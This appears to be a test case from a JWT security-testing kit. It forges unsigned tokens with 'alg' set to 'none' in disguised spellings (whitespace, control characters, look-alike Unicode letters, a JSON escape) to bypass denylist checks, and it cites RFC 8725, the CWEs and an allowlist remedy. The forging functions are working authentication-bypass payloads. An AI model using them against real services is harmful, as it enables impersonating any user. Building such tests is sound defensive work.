import { assemble, readToken } from '../../kit/forge-token.ts'
import { tokenAttack } from '../../kit/token-attack.ts'

/** Spellings that a trimming, case-folding or normalising comparison turns into `none`. */
const spellings: readonly [name: string, alg: string][] = [
  ['leading blank', ' none'],
  ['trailing blank', 'none '],
  ['trailing tab', 'none\t'],
  ['trailing newline', 'none\n'],
  ['trailing NUL', 'none\u0000'],
  ['fullwidth letters', 'ｎｏｎｅ'],
  ['leading newline', '\nnone'],
  ['no-break space behind', 'none\u00a0'],
  ['byte order mark before', '\ufeffnone'],
  ['soft hyphen inside', 'no\u00adne'],
  ['Cyrillic o', 'nоne'],
  ['in quotes', '"none"'],
  ['zero-width space inside', 'no\u200bne'],
]

export default tokenAttack({
  id: 'token/alg-none-whitespace-unicode',
  rows: ['token.alg-none.whitespace-unicode'],
  title: 'Algorithm none with blanks, control characters and look-alike letters, unsigned',
  requirement: 'RFC 8725 section 3.1: the algorithm is compared exactly with the ones the verifier allows',
  impact: 'A denylist that is compared before, and used after, normalising lets anyone become any user.',
  remedy: "Allow by list and do not normalise: jwt.verify(token, secret, { algorithms: ['HS256'] }).",
  severity: 'critical',
  cwe: ['CWE-178', 'CWE-347'],
  references: ['RFC 8725 section 3.1'],
  provenBy: 'alg-trim',
  plainer({ victim }) {
    const { header, payload } = readToken(victim.token)
    const token = assemble({ ...header, alg: 'none' }, payload, '')
    return [{ attack: 'token/alg-none', name: 'alg "none" as it is, unsigned', token }]
  },
  forge({ victim }) {
    const { header, payload } = readToken(victim.token)
    // The same word once it is parsed; a filter that looks at the text of the header does not see it.
    const escaped = JSON.stringify({ ...header, alg: 'none' }).replace('"none"', '"\\u006eone"')
    return [
      ...spellings.map(([name, alg]) => ({ name, token: assemble({ ...header, alg }, payload, '') })),
      { name: 'first letter written as a JSON escape', token: assemble(escaped, payload, '') },
    ]
  },
})
